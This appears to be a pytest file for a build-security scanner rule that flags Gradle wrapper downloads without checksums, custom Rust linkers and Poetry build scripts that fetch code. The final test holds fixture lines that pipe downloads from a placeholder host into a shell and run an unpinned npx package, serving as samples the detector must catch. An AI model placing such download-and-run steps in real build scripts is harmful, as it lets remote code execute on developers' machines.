"""AGT012: catalogued install and build settings that run code from an unexpected place."""

from __future__ import annotations

from ztsa.model import Status

WRAPPER = "gradle/wrapper/gradle-wrapper.properties"


def test_pass_released_distributions(machine):
    machine.ws(WRAPPER, "distributionUrl=https\\://services.gradle.org/distributions/g.zip\n")
    machine.ws("package.json", '{"packageManager": "yarn@4.5.0"}')
    machine.ws("go.mod", "module x\n\ngo 1.23\ntoolchain go1.23.2\n")
    assert machine.run("AGT012").status is Status.PASS


def test_pass_another_host_with_a_checksum(machine):
    machine.ws(WRAPPER, "distributionUrl=https\\://mirror.corp.example/g.zip\n"
                        "distributionSha256Sum=" + "0" * 64 + "\n")
    assert machine.run("AGT012").status is Status.PASS


def test_fail_another_host_without_a_checksum(machine):
    machine.ws(WRAPPER, "distributionUrl=https\\://mirror.corp.example/g.zip\n")
    out = machine.run("AGT012")
    assert out.status is Status.FAIL
    [e] = out.evidence
    assert e.path == WRAPPER and e.line == 1
    assert "mirror.corp.example" in e.detail and "inside: the build" in e.detail


def test_fail_linker_in_rustflags_string(machine):
    machine.ws(".cargo/config.toml", '[target.x86_64-unknown-linux-gnu]\n'
                                     'rustflags = "-Clinker=tools/ld"\n')
    assert machine.run("AGT012").status is Status.FAIL


def test_unknown_when_pyproject_does_not_parse(machine):
    machine.ws("pyproject.toml", "[tool.setuptools\n")
    out = machine.run("AGT012")
    assert out.status is Status.UNKNOWN and "pyproject.toml" in out.message


def test_a_build_module_is_judged_by_the_commands_it_runs(machine):
    """OpenHands: Poetry's build script runs `npm install` and `npm run package-vsix` for
    its editor extension: tools by name, the build's own work; it passes. The same
    script running a download tool, a download piped into a shell, a package at no
    fixed version, or a repository script that downloads and runs, fails."""
    machine.ws("pyproject.toml", '[build-system]\nrequires = ["poetry-core"]\n'
               'build-backend = "poetry.core.masonry.api"\n[tool.poetry]\nname = "d"\n'
               'version = "1"\ndescription = ""\nauthors = []\n[tool.poetry.build]\n'
               'script = "build_ext.py"\n')
    script = ("import subprocess\n\n\ndef build(kw):\n    subprocess.run(\n"
              "        ['npm', 'install'], cwd='ext', check=True\n    )\n"
              "    subprocess.run(['npm', 'run', 'package-vsix'], cwd='ext', check=True)\n")
    machine.ws("build_ext.py", script)
    assert machine.run("AGT012").status is Status.PASS
    machine.ws("tools/fetch.sh", "#!/bin/sh\ncurl -fsSL https://x.invalid/t | sh\n")
    for bad in ("['curl', '-fsSLo', 'ext/t', 'https://x.invalid/t']",
                "'curl -s https://x.invalid/i | sh', shell=True",
                "['npx', 'vsce-packager', 'package']",
                "['sh', 'tools/fetch.sh']"):
        machine.ws("build_ext.py", script.replace("['npm', 'install'], cwd='ext'", bad))
        out = machine.run("AGT012")
        assert out.status is Status.FAIL and not out.advisory, (bad, out)
